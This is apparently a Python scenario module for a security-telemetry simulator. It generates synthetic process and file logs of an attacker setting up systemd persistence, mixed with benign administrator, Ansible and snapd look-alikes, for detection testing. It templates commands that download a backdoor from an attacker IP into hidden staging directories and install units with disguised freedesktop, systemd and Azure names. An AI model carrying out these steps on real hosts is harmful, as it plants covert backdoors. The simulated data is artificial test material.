"""systemd service persistence (T1543.002): an operator with a stolen administrator
login pulls a backdoor and its unit files from a server addressed by IP into a hidden
world-writable staging directory, installs the units under names that imitate
freedesktop and system services, and enables them so that the backdoor starts now and
at every boot.

Per instance: the host and the administrator account, the staging directory (hidden
directories under /tmp, /var/tmp and /dev/shm that imitate the X11/ICE socket
directories or systemd's private ones), the download server and port, the HTTP client
(curl, wget or a Python urllib one-liner), the unit name (`dbus-org.freedesktop.*`,
`systemd-*` or imitations of distribution and Azure services), its companion (a
`.timer` of the same name or a spare service under another name), where the units go
(/etc/systemd/system, /lib/systemd/system, /usr/lib/systemd/system, or the account's
~/.config/systemd/user without root), how they get there (cp, mv, install, a shell
redirection from the staging copy, or downloaded straight into the unit directory),
where the backdoor binary is installed and under which name, and how the units are
enabled (`enable --now`, or daemon-reload, enable and start; per-user units with
lingering switched on).

Look-alikes: administrators installing units from their deploy checkouts and home
directories (cp, install, mv, tee, vim, `systemctl edit`), Ansible writing units from its
remote temporary directory, snapd writing its mount and service units on refreshes,
and administrators downloading published unit files from GitHub or from the internal
mirror by private address.
"""

from __future__ import annotations

import datetime as dt

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import LINUX_HOSTS
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    BASH,
    PYTHON,
    LookalikeFamily,
    http_url,
    register_lookalikes,
    root_session,
    user_session,
)

CAMPAIGN = "systemd_persistence"
SYSTEMCTL = "/usr/bin/systemctl"

#: Hidden staging directories that pass for the system's own.
_STAGING = (
    "/tmp/.X11-unix/.X0",
    "/tmp/.ICE-unix/.s",
    "/tmp/.font-unix/.cache",
    "/tmp/.Test-unix",
    "/var/tmp/.systemd-private",
    "/var/tmp/.dbus",
    "/var/tmp/.snapd",
    "/dev/shm/.cache",
    "/dev/shm/.udev",
    "/dev/shm/.pulse",
)
#: Unit names by style: `dbus-org.freedesktop.<x>`, `systemd-<x>`, and imitations of
#: distribution and Azure services.
_FREEDESKTOP = (
    "sync1",
    "update1",
    "journal2",
    "timedate2",
    "network2",
    "portable2",
    "oom2",
    "home2",
    "resolve2",
    "locale2",
)
_SYSTEMD = (
    "journald-sync",
    "networkd-helper",
    "udevd-cache",
    "logind-monitor",
    "timesyncd-check",
    "resolved-update",
    "tmpfiles-refresh",
    "sysusers-sync",
)
_SERVICES = (
    "snapd.refresh-monitor",
    "polkit-agent-helper",
    "apport-forward",
    "unattended-upgrades-helper",
    "walinuxagent-ext",
    "networkd-dispatcher-sync",
    "udisks2-monitor",
    "cloud-init-refresh",
    "irqbalance-daemon",
    "multipathd-sync",
    "azure-vm-agent",
    "mdatp-updater",
)
_SYSTEM_DIRS = ("/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system")
_REMOTE = ("s", "u", "svc", "sv", "b", "p", "x", "bin", "ld", "k", "up", "a")
_HTTP_PORTS = (80, 80, 80, 8080, 8000, 8081, 8888, 9090)


def _unit_base(instance: Instance, key: str) -> str:
    style = instance.pick(f"{key}_style", ("freedesktop-alias", "systemd-helper", "distro-agent"))
    if style == "freedesktop-alias":
        return "dbus-org.freedesktop." + instance.pick(key, _FREEDESKTOP)
    if style == "systemd-helper":
        return "systemd-" + instance.pick(key, _SYSTEMD)
    return instance.pick(key, _SERVICES)


def _program(base: str) -> str:
    """The backdoor's file name, derived from the unit's name as a real unit's binary
    would be (`systemd-networkd-helper`, `sync1d`, `walinuxagent-ext`)."""
    if base.startswith("dbus-org.freedesktop."):
        return base.removeprefix("dbus-org.freedesktop.") + "d"
    return base


def _download(tool: str, url: str, path: str) -> tuple[str, str]:
    """An HTTP client saving *url* as *path*: the command line Defender records and the
    image."""
    if tool == "python":
        code = f"import urllib.request;urllib.request.urlretrieve('{url}','{path}')"
        return f"python3 -c {code}", PYTHON
    return {
        "curl": (f"curl -fsSL {url} -o {path}", "/usr/bin/curl"),
        "curl_silent": (f"curl -s -o {path} {url}", "/usr/bin/curl"),
        "wget": (f"wget -q -O {path} {url}", "/usr/bin/wget"),
    }[tool]


@scenario(
    CAMPAIGN,
    "linux",
    (
        "access",
        "unit_fetch",
        "unit_staged_file",
        "unit_copy",
        "unit_file",
        "unit_enabled",
        "service_started",
    ),
)
def systemd_persistence(ctx: SimContext) -> Stages:
    """Stage, install and enable the units; systemd starts the backdoor."""
    instance = Instance(ctx, CAMPAIGN)
    host = instance.linux_host("host")
    admin = instance.pick("account", host.admin_users)
    scope = instance.pick("scope", ("root-units", "root-units", "root-units", "user-units"))
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "systemd", (0, 21)))
    if scope == "user-units":
        shell = user_session(t, admin, "access")
        home = f"/home/{admin}"
        unit_dir = instance.keep("unit_dir", f"{home}/.config/systemd/user")
        install_dir = instance.pick("install_dir", (f"{home}/.local/bin", f"{home}/.cache/dbus"))
    else:
        shell = root_session(t, admin)
        unit_dir = instance.pick("unit_dir", _SYSTEM_DIRS)
        install_dir = instance.pick(
            "install_dir", ("/usr/local/bin", "/usr/lib/systemd", "/usr/libexec", "/usr/local/lib")
        )

    base = _unit_base(instance, "unit")
    unit = f"{base}.service"
    if instance.pick("companion", ("with-timer", "with-spare")) == "with-timer":
        units = [unit, f"{base}.timer"]
    else:
        spare = _unit_base(instance, "spare")
        units = [unit, f"{spare if spare != base else base + '-helper'}.service"]
    instance.keep("units", units)

    # The backdoor and (unless they go straight to the unit directory) the units are
    # pulled into the staging directory.
    staging = instance.pick("staging", _STAGING)
    server = instance.attacker_ip("download_ip")
    port = instance.port("download_port", _HTTP_PORTS)
    tool = instance.pick("client", ("curl", "curl_silent", "wget", "python"))
    method = instance.pick(
        "install",
        (
            "cp-staged",
            "cp-into-dir",
            "mv-staged",
            "install-staged",
            "shell-redirect",
            "direct-download",
        ),
    )
    if not staging.startswith(("/tmp/.X11-unix", "/tmp/.ICE-unix", "/tmp/.font-unix")):
        t.run("unit_fetch", shell, "/usr/bin/mkdir", f"mkdir -p {staging}", after=(20, 90))
    program = _program(base)
    remotes = instance.sample("remote_paths", _REMOTE, 3)
    staged_program = f"{staging}/{program}"
    command, image = _download(tool, http_url(server, port, remotes[0]), staged_program)
    client = t.run("unit_fetch", shell, image, command, after=(5, 60))
    size = instance.between(40_000, 2_400_000)
    t.file("unit_staged_file", client, "FileCreated", staged_program, size=size, after=(0.5, 4))
    unit_size = instance.between(180, 420)
    if method != "direct-download":
        for remote, name in zip(remotes[1:], units, strict=True):
            command, image = _download(tool, http_url(server, port, remote), f"{staging}/{name}")
            client = t.run("unit_fetch", shell, image, command, after=(2, 30))
            t.file("unit_staged_file", client, "FileCreated", f"{staging}/{name}", size=unit_size)

    # The backdoor goes where the unit's ExecStart points.
    target = f"{install_dir}/{program}"
    if scope == "user-units":
        t.run("unit_copy", shell, "/usr/bin/mkdir", f"mkdir -p {install_dir} {unit_dir}")
    t.run(
        "unit_copy",
        shell,
        "/usr/bin/install",
        f"install -m 755 {staged_program} {target}",
        after=(5, 40),
    )

    # The units go into the unit directory.
    for remote, name in zip(remotes[1:], units, strict=True):
        source, path = f"{staging}/{name}", f"{unit_dir}/{name}"
        action, previous = "FileCreated", None
        if method == "cp-staged":
            writer = t.run("unit_copy", shell, "/usr/bin/cp", f"cp {source} {path}")
        elif method == "cp-into-dir":
            writer = t.run("unit_copy", shell, "/usr/bin/cp", f"cp {source} {unit_dir}/")
        elif method == "mv-staged":
            writer = t.run("unit_copy", shell, "/usr/bin/mv", f"mv {source} {path}")
            if not staging.startswith("/dev/shm"):
                # The same filesystem: a rename, not a copy.
                action, previous = "FileRenamed", source
        elif method == "install-staged":
            writer = t.run(
                "unit_copy", shell, "/usr/bin/install", f"install -m 644 {source} {path}"
            )
        elif method == "shell-redirect":
            writer = t.run("unit_copy", shell, BASH, f"bash -c cat {source} > {path}")
        else:
            command, image = _download(tool, http_url(server, port, remote), path)
            writer = t.run("unit_copy", shell, image, command)
        t.file("unit_file", writer, action, path, previous=previous, size=unit_size)

    # Enabled and started.
    start = units[1] if units[1].endswith(".timer") else unit
    user = ["--user"] if scope == "user-units" else []
    systemctl = " ".join(["systemctl", *user])
    if instance.pick("enable", ("enable-now", "reload-enable-start")) == "enable-now":
        commands = [f"{systemctl} daemon-reload", f"{systemctl} enable --now {start}"]
    else:
        commands = [
            f"{systemctl} daemon-reload",
            f"{systemctl} enable {start}",
            f"{systemctl} start {start}",
        ]
    for command in commands:
        t.run("unit_enabled", shell, SYSTEMCTL, command, after=(2, 20))
    if scope == "user-units":
        sudo = t.run("unit_enabled", shell, "/usr/bin/sudo", f"sudo loginctl enable-linger {admin}")
        t.run("unit_enabled", sudo, "/usr/bin/loginctl", f"loginctl enable-linger {admin}", "root")
        manager = t.run(
            "service_started",
            t.daemon("systemd"),
            "/usr/lib/systemd/systemd",
            "/lib/systemd/systemd --user",
            admin,
        )
    else:
        manager = t.daemon("systemd")
    t.run("service_started", manager, target, target, admin if scope == "user-units" else "root")
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------

_OWN_UNITS = (
    "app-worker",
    "portal-gunicorn",
    "node-exporter",
    "pg-backup",
    "report-builder",
    "blob-sync",
    "metrics-push",
    "log-shipper",
    "invoice-queue",
    "cert-renew-hook",
    "portal-node",
    "cache-warmer",
)
_SNAPS = (
    (
        "lxd",
        ("snap.lxd.daemon.service", "snap.lxd.activate.service", "snap.lxd.daemon.unix.socket"),
    ),
    ("core20", ()),
    ("snapd", ("snap.snapd.recovery-chooser-trigger.service",)),
    (
        "canonical-livepatch",
        ("snap.canonical-livepatch.canonical-livepatchd.service",),
    ),
    ("core22", ()),
)
_UPSTREAM_UNITS = (
    (
        "https://raw.githubusercontent.com/prometheus/node_exporter/master/examples/systemd/node_exporter.service",
        "node_exporter.service",
    ),
    (
        "https://raw.githubusercontent.com/caddyserver/dist/master/init/caddy.service",
        "caddy.service",
    ),
    (
        "https://raw.githubusercontent.com/moby/moby/master/contrib/init/systemd/docker.socket",
        "docker.socket",
    ),
    (
        "https://raw.githubusercontent.com/containerd/containerd/main/containerd.service",
        "containerd.service",
    ),
    (
        "http://10.1.0.10:8081/repository/raw-internal/units/fluent-bit.service",
        "fluent-bit.service",
    ),
    (
        "http://10.1.0.10:8081/repository/raw-internal/units/contoso-agent.service",
        "contoso-agent.service",
    ),
    ("http://10.1.0.10:8081/repository/raw-internal/units/pgbackrest.timer", "pgbackrest.timer"),
)


def _admin_units(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators install and edit the company's own units."""
    for host, moment in family.moments(2, 3):
        t = family.on(host, moment)
        user = family.rng.choice(host.admin_users)
        root = root_session(t, user, stage="admin_unit_install")
        name = family.rng.choice(_OWN_UNITS)
        suffix = ".timer" if name in ("pg-backup", "blob-sync", "cache-warmer") else ".service"
        path = f"/etc/systemd/system/{name}{suffix}"
        how = family.rng.choice(("cp", "install", "mv", "tee", "vim", "edit"))
        previous = None
        action = "FileCreated"
        if how == "cp":
            source = f"/home/{user}/deploy/{name}{suffix}"
            writer = t.run(
                "admin_unit_install", root, "/usr/bin/cp", f"cp {source} /etc/systemd/system/"
            )
        elif how == "install":
            source = f"/opt/app/deploy/systemd/{name}{suffix}"
            writer = t.run(
                "admin_unit_install",
                root,
                "/usr/bin/install",
                f"install -m 0644 {source} {path}",
            )
        elif how == "mv":
            source = f"/home/{user}/tmp/{name}{suffix}"
            writer = t.run("admin_unit_install", root, "/usr/bin/mv", f"mv {source} {path}")
            action, previous = "FileRenamed", source
        elif how == "tee":
            writer = t.run("admin_unit_install", root, "/usr/bin/tee", f"tee {path}")
        elif how == "vim":
            writer = t.run("admin_unit_install", root, "/usr/bin/vim.basic", f"vim {path}")
            action = "FileModified"
        else:
            writer = t.run(
                "admin_unit_install", root, SYSTEMCTL, f"systemctl edit --full {name}{suffix}"
            )
            action = "FileRenamed"
            previous = f"/etc/systemd/system/.#{name}{suffix}{family.rng.getrandbits(64):016x}"
        t.file("admin_unit_install", writer, action, path, previous=previous, after=(3, 60))
        t.run("admin_unit_install", root, SYSTEMCTL, "systemctl daemon-reload", after=(2, 20))
        t.run(
            "admin_unit_install",
            root,
            SYSTEMCTL,
            f"systemctl {family.rng.choice(('enable --now', 'restart'))} {name}{suffix}",
        )


def _ansible_units(ctx: SimContext, family: LookalikeFamily) -> None:
    """Ansible templates units onto the servers from its remote temporary directory."""
    for moment in family.times(1, 1):
        for host in family.rng.sample(LINUX_HOSTS, family.rng.randint(2, 4)):
            t = family.on(host, moment + dt.timedelta(seconds=family.rng.uniform(0, 90)))
            sshd = t.run(
                "config_management_units",
                t.daemon("sshd"),
                "/usr/sbin/sshd",
                "sshd: azureuser [priv]",
                "root",
            )
            for name in family.rng.sample(_OWN_UNITS, family.rng.randint(1, 2)):
                stamp = f"{moment.timestamp():.2f}-{family.rng.randrange(1000, 99999)}-{family.rng.randrange(10**13, 10**14)}"
                module = family.rng.choice(("AnsiballZ_template.py", "AnsiballZ_copy.py"))
                script = f"/home/azureuser/.ansible/tmp/ansible-tmp-{stamp}/{module}"
                become = t.run(
                    "config_management_units",
                    sshd,
                    "/usr/bin/sudo",
                    f"sudo -H -S -n -u root /bin/sh -c echo BECOME-SUCCESS-{family.rng.getrandbits(80):020x} ; /usr/bin/python3 {script}",
                    "root",
                    after=(2, 10),
                )
                sh = t.run(
                    "config_management_units",
                    become,
                    "/usr/bin/dash",
                    f"/bin/sh -c echo BECOME-SUCCESS ; /usr/bin/python3 {script}",
                )
                writer = t.run("config_management_units", sh, PYTHON, f"/usr/bin/python3 {script}")
                path = f"/etc/systemd/system/{name}.service"
                t.file(
                    "config_management_units",
                    writer,
                    "FileRenamed",
                    path,
                    previous=f"/etc/systemd/system/.ansible_tmp{family.rng.getrandbits(32):08x}{name}.service",
                )


def _snap_units(ctx: SimContext, family: LookalikeFamily) -> None:
    """snapd refreshes snaps and rewrites their mount and service units (it restarts
    itself on a host's first refresh in the window, after refreshing its own snap)."""
    hosts = family.rng.sample(LINUX_HOSTS, family.rng.randint(2, 5))
    for host in hosts:
        snapd: Process | None = None
        for day in ctx.day_range():
            moment = ctx.day_start(day) + dt.timedelta(
                hours=family.rng.randrange(0, 23), minutes=family.rng.randrange(60)
            )
            t = family.on(host, moment)
            if snapd is None:
                snapd = t.run(
                    "snap_units",
                    t.daemon("systemd"),
                    "/usr/lib/snapd/snapd",
                    "/usr/lib/snapd/snapd",
                    "root",
                )
            snap, services = family.rng.choice(_SNAPS)
            revision = family.rng.randrange(2000, 30000)
            mount = f"/etc/systemd/system/snap-{snap}-{revision}.mount"
            t.file("snap_units", snapd, "FileCreated", mount, after=(5, 30))
            for service in services:
                t.file("snap_units", snapd, "FileModified", f"/etc/systemd/system/{service}")
            t.run(
                "snap_units",
                snapd,
                SYSTEMCTL,
                f"systemctl --root / enable snap-{snap}-{revision}.mount",
            )
            t.run("snap_units", snapd, SYSTEMCTL, "systemctl daemon-reload")


def _unit_downloads(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators pull published unit files straight into /etc/systemd/system: from
    GitHub, or from the internal mirror by its private address."""
    for t, root in family.root_sessions(family.moments(2, 3)):
        url, name = family.rng.choice(_UPSTREAM_UNITS)
        path = f"/etc/systemd/system/{name}"
        if family.rng.random() < 0.5:
            command, image = f"curl -fsSL -o {path} {url}", "/usr/bin/curl"
        else:
            command, image = f"wget -q -O {path} {url}", "/usr/bin/wget"
        writer = t.run("unit_downloads", root, image, command, after=(10, 90))
        t.file("unit_downloads", writer, "FileCreated", path, after=(0.2, 2))
        t.run("unit_downloads", root, SYSTEMCTL, f"systemctl enable --now {name}", after=(5, 60))


_FAMILIES = {
    "admin_unit_install": _admin_units,
    "config_management_units": _ansible_units,
    "snap_units": _snap_units,
    "unit_downloads": _unit_downloads,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
